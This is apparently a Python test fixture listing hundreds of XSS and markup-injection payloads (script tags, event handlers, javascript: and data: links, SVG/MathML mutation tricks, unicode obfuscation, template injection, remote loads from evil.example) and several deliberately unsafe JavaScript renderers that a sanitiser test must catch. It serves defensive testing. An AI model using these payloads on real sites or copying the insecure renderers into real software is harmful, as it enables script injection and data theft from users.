"""Texts that try to become more than text in a browser, by the class of what they try; written for these tests.

`hit()` is what a script would call. Whatever is asked of `evil.example` was asked without anybody's click.
"""

from __future__ import annotations

from pathlib import Path

_EVIL = "https://evil.example"

MARKUP = [
    "<script>hit()</script>",
    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
    "<script\n>hit()</script\n>",
    "</p><script>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<img src=x onerror=hit()>",
    "<img src='x' onerror='hit()' alt=\"a\">",
    '<IMG """><SCRIPT>hit()</SCRIPT>">',
    "<img/src=`x`onerror=hit()>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x'>",
    "<picture><source srcset=https://evil.example/c><img></picture>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=https://evil.example/o></object>",
    "<embed src=https://evil.example/e>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<link rel=prefetch href=https://evil.example/p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<body onload=hit()>",
    "<video src=x onerror=hit()></video>",
    "<audio src=https://evil.example/a autoplay>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()><option>a</select>",
    "<form action=https://evil.example><button>OK</button></form>",
    "<button formaction=javascript:hit()>OK</button>",
    "<marquee onstart=hit()>a</marquee>",
    "<div style='background:url(https://evil.example/b)'>a</div>",
    "<div onpointerenter=hit() style='position:fixed;inset:0'>a</div>",
    "<style>@import 'https://evil.example/i.css';</style>",
    "<style>*{background:url(https://evil.example/u)}</style>",
    "<table background=https://evil.example/t><tr><td>a</table>",
    "<isindex type=image src=https://evil.example/x onerror=hit()>",
    "<template><script>hit()</script></template>",
    "<slot name=a onslotchange=hit()></slot>",
    "<amara-chat server=https://evil.example open></amara-chat>",
    "<a href=javascript:hit()>a</a>",
    "<a href=https://evil.example ping=https://evil.example/p>a</a>",
]
SVG_AND_MATH = [
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><script xlink:href=https://evil.example/s.js /></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:hit()></svg>",
    "<svg><a xlink:href=javascript:hit()><text y=20>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=hit()></svg>#x'/></svg>",
    "<svg><image href=https://evil.example/i.png /></svg>",
    "<svg><foreignObject><iframe src=javascript:hit()></iframe></foreignObject></svg>",
    "<math><mtext><img src=x onerror=hit()></mtext></math>",
    "<math href=javascript:hit()>a</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:hit()>a</maction></math>",
]
MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<svg></p><style><a title='</style><img src=x onerror=hit()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hit()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
    "<!--<img src='--><img src=x onerror=hit()//'>",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'>",
    "<textarea><p title='</textarea><img src=x onerror=hit()>'>",
    "<title><a href='</title><img src=x onerror=hit()>'>",
    "<?xml-stylesheet href='javascript:hit()'?>",
    "<listing>&lt;img src=x onerror=hit()&gt;</listing>",
    "<p id='x' name='getElementById'></p><form id=documentElement>",
    "<\x00script>hit()</script>",
    "<img\x0bsrc=x\x0conerror=hit()>",
]
LINKS = [
    "[a](javascript:hit())",
    "[a](JaVaScRiPt:hit())",
    "[a]( javascript:hit())",
    "[a](java\tscript:hit())",
    "[a](java\nscript:hit())",
    "[a](\x01javascript:hit())",
    "[a](javascript&colon;hit())",
    "[a](javascript&#58;hit())",
    "[a](&#106;avascript:hit())",
    "[a](&#x6A;avascript:hit())",
    "[a](javascript%3Ahit())",
    "[a](<javascript:hit()>)",
    "[a](javascript://evil.example/%0Ahit())",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html,<script>hit()</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "[a](blob:https://evil.example/1)",
    "[a](file:///etc/passwd)",
    "[a](intent://evil.example#Intent;scheme=http;end)",
    "[a](ms-settings:privacy)",
    "[a](view-source:https://evil.example)",
    "[a](//evil.example/relative)",
    "[a](/v1/auth/anonymous)",
    "[a](\\\\evil.example\\share)",
    '[a](https://evil.example "onmouseover=hit()")',
    "[a](https://evil.example'onclick='hit())",
    '[a](https://evil.example"onclick="hit())',
    "[a](https://evil.example/`onclick=`hit())",
    "[<img src=x onerror=hit()>](https://evil.example)",
    "[a](https://evil.example/<script>hit()</script>)",
    "[a][r]\n\n[r]: javascript:hit()",
    "[a]\n\n[a]: data:text/html,<script>hit()</script>",
    "<javascript:hit()>",
    "<data:text/html,hit()>",
    '<https://evil.example/auto"onclick="hit()>',
    'https://evil.example/"onmouseover="hit()',
    "javascript:hit()",
    "mailto:a@evil.example?subject=<script>hit()</script>",
    "[a](mailto:javascript:hit())",
    "[a](tel:+57;javascript:hit())",
]
PICTURES = [
    f"![]({_EVIL})",
    f"![a]({_EVIL}/pixel.gif?text=all)",
    f'![a]({_EVIL}/p "onerror=hit()")',
    "![a](javascript:hit())",
    "![a](data:image/svg+xml,<svg onload=hit()>)",
    '![a](x"onerror="hit())',
    "![<img src=x onerror=hit()>](y)",
    f"[![a]({_EVIL}/b.png)](javascript:hit())",
    f"![a][r]\n\n[r]: {_EVIL}/r.png",
    f"| a |\n|---|\n| ![a]({_EVIL}/t.png) |",
]
BLOCKS = [
    "```html\n<script>hit()</script>\n```",
    '```"><script>hit()</script>\ncode\n```',
    "```js onload=hit()\nhit()\n```",
    "`<img src=x onerror=hit()>`",
    "# <img src=x onerror=hit()>",
    "> <svg onload=hit()>",
    "- <script>hit()</script>\n  - [a](javascript:hit())",
    "1. ![a](https://evil.example/li)\n2. <iframe src=javascript:hit()>",
    "| <script>hit()</script> | [a](javascript:hit()) |\n|---|---|\n| <img src=x onerror=hit()> | b |",
    "**<img src=x onerror=hit()>** *[a](javascript:hit())* ~~<svg onload=hit()>~~",
    "- [ ] <input autofocus onfocus=hit()>\n- [x] done",
    "$$\\href{javascript:hit()}{a}$$ and $\\url{javascript:hit()}$",
    "Term\n: <script>hit()</script>",
    "[^1]\n\n[^1]: <img src=x onerror=hit()>",
]
LETTERS = [
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "\u202e)(tih:tpircsavaj\u202c",
    "[\u202egro.knab//:sptth\u202c](javascript:hit())",
    "java\u200bscript:hit() <scr\u200dipt>hit()</scr\u200dipt>",
    "[a](java\u00adscript:hit())",
    "[a](\ufeffjavascript:hit())",
    "\u2028<script>hit()</script>\u2029",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467<img src=x onerror=hit()>",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\u017fcript <\u017fcript>hit()</\u017fcript>",
    "a\u0300" * 20 + "<img src=x onerror=hit()>",
    "\x1b[31m<script>hit()</script>\x1b[0m",
]
CODE = [
    "${hit()}",
    "{{constructor.constructor('hit()')()}}",
    "{{7*7}}#{hit()}<%= hit() %>",
    "`${hit()}`",
    "'-hit()-'",
    '";hit();//',
    "</script><script>hit()</script>",
    "*/hit()/*",
    "x}body{background:url(https://evil.example/css)}",
    "expression(hit())",
    "-moz-binding:url(https://evil.example/x.xml#a)",
    "__proto__",
    "constructor",
    "[object Object]",
    '{"card":"professionals","professionals":[{"name":"<img src=x onerror=hit()>"}]}',
]

TEXTS = [*MARKUP, *SVG_AND_MATH, *MUTATIONS, *LINKS, *PICTURES, *BLOCKS, *LETTERS, *CODE]

BROKEN_RENDERERS = {
    "takes markup as markup": """root => ({ text: '', write(s) { this.text += s; root.innerHTML = this.text },
        end() {} })""",
    "makes a link of any scheme": """root => ({ text: '', write(s) { this.text += s; root.replaceChildren();
        for (const [, label, to] of this.text.matchAll(/\\[([^\\]]*)\\]\\(([^)]*)\\)/g)) {
          const a = document.createElement('a'); a.href = to; a.textContent = label; root.append(a) } }, end() {} })""",
    "draws pictures": """root => ({ text: '', write(s) { this.text += s; root.replaceChildren();
        for (const [, to] of this.text.matchAll(/!\\[[^\\]]*\\]\\(([^)\\s]*)/g)) {
          const i = document.createElement('img'); i.src = to; root.append(i) } }, end() {} })""",
    "checks the scheme as it is written": """root => ({ text: '', write(s) { this.text += s; root.replaceChildren();
        for (const [, label, to] of this.text.matchAll(/\\[([^\\]]*)\\]\\(([^)]*)\\)/g)) {
          const a = document.createElement('a'); if (!to.startsWith('javascript:')) a.href = to;
          a.textContent = label; root.append(a) } }, end() {} })""",
    "is right about the whole and wrong about a half": """root => ({ text: '', write(s) { this.text += s;
        if (/<[a-z][^>]*$/i.test(this.text)) root.innerHTML = this.text + '>'; else root.textContent = this.text },
        end() {} })""",
}
"""Renderers of the kind one would write in a hurry: each must be caught."""

_PAGES = Path(__file__).parent / "pages"
WATCH = (_PAGES / "watch.js").read_text()
"""For every page: `hit` counts scripts that ran, `wrong(root)` names what should not stand below a root."""
EVERY_SPLIT = (_PAGES / "every_split.js").read_text()
"""A function of the texts and of a broken renderer, or none: what it found."""
